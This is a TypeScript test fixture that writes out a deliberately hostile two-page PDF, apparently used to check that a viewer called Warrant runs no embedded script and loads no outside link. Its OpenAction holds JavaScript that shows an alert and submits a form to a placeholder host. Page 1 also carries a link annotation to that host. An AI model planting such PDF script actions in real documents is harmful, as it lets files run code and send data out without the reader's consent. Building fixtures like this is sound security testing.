/**
 * A two-page PDF written byte by byte, hostile on purpose: it opens with a JavaScript action that
 * would show an alert, and page 1 carries a link to an outside address over its text. Nothing of
 * either may run or load when Warrant shows the pages. Page 2 has two lines of text to quote from.
 */
export const HOSTILE_PDF_LINES = {
  page1: 'Page one of the statement.',
  page2: ['The minister said the talks would resume in March.', 'Pack my box with five dozen liquor jugs.'],
};

export function hostilePdf(): Buffer {
  const text = (lines: string[]): string =>
    `BT /F1 14 Tf 72 720 Td ${lines.map((line, index) => `${index > 0 ? '0 -24 Td ' : ''}(${line}) Tj`).join(' ')} ET`;
  const stream = (content: string): string => `<< /Length ${Buffer.byteLength(content, 'latin1')} >>\nstream\n${content}\nendstream`;
  const objects = [
    '<< /Type /Catalog /Pages 2 0 R /OpenAction 9 0 R >>',
    '<< /Type /Pages /Kids [3 0 R 6 0 R] /Count 2 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 5 0 R >> >> /Contents 4 0 R /Annots [8 0 R] >>',
    stream(text([HOSTILE_PDF_LINES.page1])),
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 5 0 R >> >> /Contents 7 0 R >>',
    stream(text(HOSTILE_PDF_LINES.page2)),
    '<< /Type /Annot /Subtype /Link /Rect [60 700 400 740] /Border [0 0 0] /A << /S /URI /URI (https://hostile.invalid/pdf-link) >> >>',
    "<< /S /JavaScript /JS (app.alert\\('the PDF ran a script'\\); this.submitForm\\('https://hostile.invalid/pdf-script'\\);) >>",
  ];
  let body = '%PDF-1.7\n';
  const offsets: number[] = [];
  objects.forEach((object, index) => {
    offsets.push(Buffer.byteLength(body, 'latin1'));
    body += `${index + 1} 0 obj\n${object}\nendobj\n`;
  });
  const xref = Buffer.byteLength(body, 'latin1');
  body += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n`;
  body += offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`).join('');
  body += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`;
  return Buffer.from(body, 'latin1');
}
